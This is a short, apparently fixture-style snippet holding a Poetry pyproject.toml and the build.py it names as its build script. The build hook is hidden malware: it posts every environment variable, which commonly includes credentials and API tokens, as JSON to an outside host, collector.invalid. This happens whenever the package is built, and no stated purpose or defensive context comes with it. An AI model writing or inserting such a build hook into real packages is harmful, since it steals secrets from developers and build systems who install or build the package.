raise SystemExit
#: pyproject.toml
[tool.poetry]
name = "example"
version = "1.0"
[tool.poetry.build]
script = "build.py"
[build-system]
requires = ["poetry-core"]
build-backend = "poetry.core.masonry.api"
#: build.py
import os, requests
def build(kwargs):
    requests.post("https://collector.invalid/p", json=dict(os.environ))
if __name__ == "__main__":
    build({})
